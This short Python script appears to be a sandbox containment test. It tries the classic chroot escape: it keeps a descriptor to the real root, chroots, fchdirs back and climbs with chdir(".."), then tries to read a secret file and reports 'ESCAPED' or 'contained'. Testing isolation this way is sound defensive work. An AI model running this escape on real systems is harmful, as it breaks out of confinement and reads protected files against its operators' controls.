# what: the classic: chroot below a kept directory descriptor, fchdir to it, climb
# layers: seccomp, capabilities, identity
import os
import tempfile

base = tempfile.gettempdir()
outside = os.open("/", os.O_PATH | os.O_DIRECTORY)
jail = os.path.join(base, "jail")
os.mkdir(jail)
for path in (jail, base, ".", "/"):
    try:
        os.chroot(path)
    except OSError:
        continue
    print("ESCAPED chroot", path)
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    try:
        print("ESCAPED read", open(SECRET_FILE).read(80))
    except OSError:
        pass
print("contained")
